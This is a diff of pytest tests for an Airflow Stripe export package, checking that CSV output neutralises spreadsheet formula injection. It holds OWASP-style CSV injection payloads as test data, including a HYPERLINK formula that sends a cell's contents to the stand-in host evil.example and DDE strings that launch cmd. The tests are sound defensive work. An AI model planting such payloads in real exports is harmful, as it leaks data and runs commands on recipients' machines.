@@ -172,3 +172,87 @@ def test_bad_resource_format_or_mode_fail_at_parse_time() -> None:
 def test_aliases_are_the_generic_operator() -> None:
     op = StripeListChargesOperator(task_id="e", path="/tmp/x.jsonl")
     assert isinstance(op, StripeExportOperator) and op.resource == "charges" and op.file_format == "jsonl"
+
+
+HOSTILE = (
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+"""Customer names a spreadsheet would run as formulas (OWASP's CSV injection examples)."""
+
+
+def test_csv_export_neutralises_formulas_as_a_spreadsheet_reads_them(
+    ledger_front: LedgerFront, localstripe: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    """Every formula-leading text cell is prefixed with ``'``.
+
+    Read back with the csv module, as a spreadsheet splits cells: the first character of each
+    cell is what decides whether it is evaluated.
+    """
+    import pyarrow.parquet as pq
+
+    client = _client(localstripe)
+    start = _next_second(time.time() - 1)
+    for i, name in enumerate(HOSTILE):
+        client.v1.customers.create({"name": name, "description": f"=1+{i}", "email": f"h{i}@x.io"})
+    client.v1.customers.create({"name": "Plain Name", "description": "a - b"})
+    end = _next_second(time.time())
+    conn = stripe_connection(monkeypatch, ledger_front.url)
+    window = {"resource": "customers", "created_gte": start, "created_lt": end}
+
+    def cells(path: Path) -> list[dict[str, str]]:
+        with path.open(newline="", encoding="utf-8") as handle:
+            return list(csv.DictReader(handle))
+
+    _, safe = _export(conn, tmp_path, "safe.csv", file_format="csv", **window)
+    table = cells(safe)
+    assert len(table) == len(HOSTILE) + 1
+    triggers = ("=", "+", "-", "@", "\t", "\r")
+    text_columns = [name for name, kind in RESOURCES["customers"].columns if kind == "string"]
+    for row in table:
+        for column in text_columns:
+            assert not row[column].startswith(triggers), (column, row[column])
+    by_email = {r["email"]: r for r in table}
+    for i, name in enumerate(HOSTILE):
+        row = by_email[f"h{i}@x.io"]
+        assert (row["name"], row["description"]) == ("'" + name, f"'=1+{i}")
+    plain = next(r for r in table if r["name"] == "Plain Name")
+    assert plain["description"] == "a - b"
+
+    # Machine readers turn it off and get Stripe's values as they are; JSON Lines and Parquet always do.
+    _, raw = _export(conn, tmp_path, "raw.csv", file_format="csv", escape_csv_formulas=False, **window)
+    assert sorted(r["name"] for r in cells(raw)) == sorted([*HOSTILE, "Plain Name"])
+    _, jsonl = _export(conn, tmp_path, "c.jsonl", **window)
+    assert sorted(json.loads(line)["name"] for line in jsonl.read_text().splitlines()) == sorted(
+        [*HOSTILE, "Plain Name"]
+    )
+    _, parquet = _export(conn, tmp_path, "c.parquet", file_format="parquet", **window)
+    assert sorted(pq.read_table(parquet).column("name").to_pylist()) == sorted([*HOSTILE, "Plain Name"])
+
+
+def test_csv_export_keeps_negative_amounts_as_numbers(
+    ledger_front: LedgerFront, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    """A refund's ``-500`` is a number, left as is; a description ``-5 refund`` is text, neutralised."""
+    from airflow_provider_stripe.operators.reconciliation import StripePayoutReconciliationOperator
+
+    items = [
+        {"type": "charge", "amount": 2000, "fee": 88, "description": '=HYPERLINK("https://evil.example")'},
+        {"type": "refund", "amount": -500, "reporting_category": "refund", "description": "-5 refund"},
+    ]
+    payout = ledger_front.ledger.add_automatic_payout(items)
+    conn = stripe_connection(monkeypatch, ledger_front.url)
+    target = tmp_path / "recon.csv"
+    StripePayoutReconciliationOperator(
+        task_id="recon", stripe_conn_id=conn, path=str(target), payout_ids=payout["id"], file_format="csv"
+    ).execute(task_context())
+    with target.open(newline="", encoding="utf-8") as handle:
+        rows = {r["type"]: r for r in csv.DictReader(handle)}
+    refund = rows["refund"]
+    assert (refund["amount"], refund["net"], refund["description"]) == ("-500", "-500", "'-5 refund")
+    assert rows["charge"]["description"] == '\'=HYPERLINK("https://evil.example")'
+    assert rows["payout"]["amount"] == str(-(2000 - 88 - 500))  # the payout's own transaction: a debit
